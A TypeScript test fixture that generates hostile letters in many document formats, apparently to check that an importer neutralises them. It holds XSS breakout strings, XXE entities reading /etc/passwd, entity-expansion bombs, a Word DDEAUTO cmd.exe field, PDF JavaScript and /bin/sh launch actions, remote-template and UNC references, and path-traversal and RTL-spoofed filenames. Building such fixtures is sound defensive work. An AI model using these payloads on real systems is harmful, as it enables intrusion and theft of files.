/** Letters in every other format that try what a page would: relations to elsewhere, actions, scripts, names that are markup. */
import { strToU8, zipSync } from 'fflate'
import { linesAt, pdfDocument } from '../pdf-document'
import { hostileAddress, hostileHost, hostilePieces, pageOfAllPieces, wordsOf } from './pages'

/** As a title, a name or a place it would break out of whatever attribute or element it is put into. */
export const hostileName = `"'><img src="http://${hostileHost('in-a-name')}/p.png" onerror="self.hostileRan='in-a-name'"><svg onload=self.hostileRan='in-a-name'>`

/** The namespace of Word's documents. */
const office = 'http://schemas.openxmlformats.org'

const attribute = (text: string) =>
  text.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')

export const hostileDocuments: Readonly<Record<string, string | Uint8Array>> = {
  'all.html': pageOfAllPieces(),
  'mail.eml': mail(),
  'related.docx': wordDocument(),
  'related.odt': openDocument(),
  'book.epub': book(''),
  /** Refused: it takes its words from a file outside. */
  'book-of-elsewhere.epub': book('&e;'),
  'actions.pdf': actions(),
  'raw.md': `---\ntitle: ${JSON.stringify(hostileName)}\nfrom: ${JSON.stringify(hostileName)}\nto: ${JSON.stringify(hostileName)}\ndate: 1901-05-01\n---\n\n${wordsOf('markdown')}\n\n![a](http://${hostileHost('markdown')}/p.png) [go](javascript:self.hostileRan='markdown') <http://${hostileHost('markdown')}/>\n\n${markups()}\n`,
  'raw.txt': `${hostileName}\n\nDear council,\n\n${wordsOf('text')}\n\n${markups()}\n\n\u202Egpj.exe\u202C \u2066x\u2069\n`,
  'external.xml': edition(),
  'rich.rtf': richText(),
  'names \u202Etxt.exe\u202C.txt': `A letter with a turned name\n\n${wordsOf('turned-name')}\n`,
  "'><svg onload=self.hostileRan='file'>.txt": `A letter with markup for a name\n\n${wordsOf('file-name')}\n`,
}

function markups(): string {
  return hostilePieces.map(({ markup }) => markup.replaceAll('\u0000', '')).join('\n\n')
}

function mail(): string {
  const bound = 'part-of-the-letter'
  return [
    `From: "${hostileName.replaceAll('"', "'")}" <a@hostile.test>`,
    'To: council@valley.test',
    `Subject: =?utf-8?B?${Buffer.from(hostileName).toString('base64')}?=`,
    'Date: Wed, 1 May 1901 10:00:00 +0000',
    `Disposition-Notification-To: <a@${hostileHost('mail-receipt')}>`,
    `List-Unsubscribe: <http://${hostileHost('mail-list')}/>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/related; boundary="${bound}"`,
    '',
    `--${bound}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>${wordsOf('mail')}</p><img src="cid:none@hostile.test">`,
    pageOfAllPieces(),
    `--${bound}`,
    `Content-Type: message/external-body; access-type=URL; URL="http://${hostileHost('mail-body')}/"`,
    '',
    'Content-Type: text/plain',
    '',
    `--${bound}`,
    'Content-Type: image/svg+xml; name="../../drawing.svg"',
    'Content-Disposition: inline; filename="../../../../etc/drawing.svg"',
    '',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="self.hostileRan='mail'"/>`,
    `--${bound}--`,
    '',
  ].join('\r\n')
}

function wordDocument(): Uint8Array {
  const field = (code: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
  const relation = (id: string, kind: string, target: string) =>
    `<Relationship Id="${id}" Type="${office}/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`
  return zipSync({
    '[Content_Types].xml': strToU8(
      `<?xml version="1.0"?><Types xmlns="${office}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
    ),
    '_rels/.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${office}/package/2006/relationships"><Relationship Id="r1" Type="${office}/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`,
    ),
    'word/_rels/document.xml.rels': strToU8(
      `<?xml version="1.0"?><Relationships xmlns="${office}/package/2006/relationships">${[
        relation('t', 'attachedTemplate', `http://${hostileHost('word-template')}/t.dotm`),
        relation('i', 'image', `http://${hostileHost('word-image')}/p.png`),
        relation('o', 'oleObject', `file:////${hostileAddress}/share/o.bin`),
        relation('f', 'frame', `http://${hostileHost('word-frame')}/`),
        relation('h', 'hyperlink', "javascript:self.hostileRan='word'"),
      ].join('')}</Relationships>`,
    ),
    'word/document.xml': strToU8(
      `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "http://${hostileHost('word-entity')}/">]><w:document xmlns:w="${office}/wordprocessingml/2006/main" xmlns:r="${office}/officeDocument/2006/relationships"><w:body><w:p><w:r><w:t>A letter of the word processor</w:t></w:r></w:p><w:p><w:r><w:t>${wordsOf('word')} &lt;img src=x onerror=self.hostileRan='word'&gt;</w:t></w:r></w:p><w:p><w:hyperlink r:id="h"><w:r><w:t>read on</w:t></w:r></w:hyperlink></w:p>${field(`INCLUDEPICTURE "http://${hostileHost('word-field')}/p.png" \\d`)}${field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}</w:body></w:document>`,
    ),
  })
}

function openDocument(): Uint8Array {
  const names =
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
  return zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8(
      `<?xml version="1.0"?><office:document-content ${names}><office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="http://${hostileHost('open-document-macro')}/"/></office:event-listeners></office:scripts><office:body><office:text><text:p>A letter of the other word processor</text:p><text:p>${wordsOf('open-document')} &lt;svg onload=self.hostileRan='odt'&gt;</text:p><text:p><text:a xlink:href="javascript:self.hostileRan='odt'">read on</text:a><draw:frame><draw:image xlink:href="http://${hostileHost('open-document-image')}/p.png" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object xlink:href="http://${hostileHost('open-document-object')}/"/></draw:frame></text:p><text:section><text:section-source xlink:href="http://${hostileHost('open-document-section')}/"/></text:section></office:text></office:body></office:document-content>`,
    ),
    'META-INF/manifest.xml': strToU8('<?xml version="1.0"?><manifest/>'),
  })
}

function book(entity: string): Uint8Array {
  return zipSync({
    mimetype: [strToU8('application/epub+zip'), { level: 0 }],
    'META-INF/container.xml': strToU8(
      '<?xml version="1.0"?><container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>',
    ),
    'book.opf': strToU8(
      `<?xml version="1.0"?><package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${attribute(hostileName)}</dc:title></metadata><manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml" properties="scripted remote-resources"/><item id="b" href="../../../../etc/passwd" media-type="application/xhtml+xml"/><item id="c" href="http://${hostileHost('book-part')}/c.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/><itemref idref="c"/></spine></package>`,
    ),
    'a.xhtml': strToU8(
      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY e SYSTEM "file:///etc/passwd">]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>A letter of a book</title><script src="http://${hostileHost('book-script')}/a.js"/></head><body onload="self.hostileRan='epub'"><p>${wordsOf('book')}</p><p>${entity}</p><img src="http://${hostileHost('book-image')}/p.png"/></body></html>`,
    ),
  })
}

function actions(): Uint8Array {
  return pdfDocument([linesAt([72, 700, 'A letter on a printed page'], [72, 670, wordsOf('print')])], {
    version: '1.7',
    information: `/Title(${hostileName.replace(/[\\()]/g, '\\$&')})`,
    catalog: `/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\("http://${hostileHost('print-script')}/"\\))>>/AA<</WC<</S/URI/URI(http://${hostileHost('print-close')}/)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>/AcroForm<</XFA(<x/>)/Fields[]>>`,
    font: `<</Type/Font/Subtype/Type1/BaseFont/Times-Roman/Encoding/WinAnsiEncoding/FontMatrix[1 0 0 1 0 (self.hostileRan='font')]>>`,
    objects: [
      `<</S/Launch/F(/bin/sh)/Next<</S/GoToR/F(\\\\\\\\${hostileAddress}\\\\share\\\\a.pdf)/D[0/Fit]>>>>`,
    ],
  })
}

function edition(): string {
  return `<?xml version="1.0"?>
<?xml-stylesheet type="text/xsl" href="http://${hostileHost('edition-style')}/s.xsl"?>
<!DOCTYPE TEI [<!ENTITY % outer SYSTEM "http://${hostileHost('edition-entity')}/e.dtd"> %outer; <!ENTITY file SYSTEM "file:///etc/passwd"> <!ENTITY one "ha"> <!ENTITY two "&one;&one;&one;&one;&one;&one;&one;&one;"> <!ENTITY three "&two;&two;&two;&two;&two;&two;&two;&two;">]>
<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xi="http://www.w3.org/2001/XInclude"><teiHeader><fileDesc><titleStmt><title>${attribute(hostileName)}</title></titleStmt><publicationStmt><p>x</p></publicationStmt><sourceDesc><p>x</p></sourceDesc></fileDesc></teiHeader>
<text><body><xi:include href="file:///etc/passwd" parse="text"/><p>${wordsOf('edition')} &lt;script&gt;self.hostileRan='tei'&lt;/script&gt;</p><graphic url="http://${hostileHost('edition-image')}/p.png"/><ref target="javascript:self.hostileRan='tei'">read on</ref></body></text></TEI>
`
}

function richText(): string {
  return `{\\rtf1\\ansi{\\*\\template http://${hostileHost('rich-template')}/t.dot}A letter in rich text\\par ${wordsOf('rich')}\\par{\\field{\\*\\fldinst INCLUDEPICTURE "http://${hostileHost('rich-field')}/p.png"}{\\fldrslt field}}{\\field{\\*\\fldinst HYPERLINK "javascript:self.hostileRan='rtf'"}{\\fldrslt read on}}{\\object\\objautlink\\objupdate{\\*\\objclass Package}{\\*\\objdata 0105}}<svg onload=self.hostileRan='rtf'>\\par}`
}
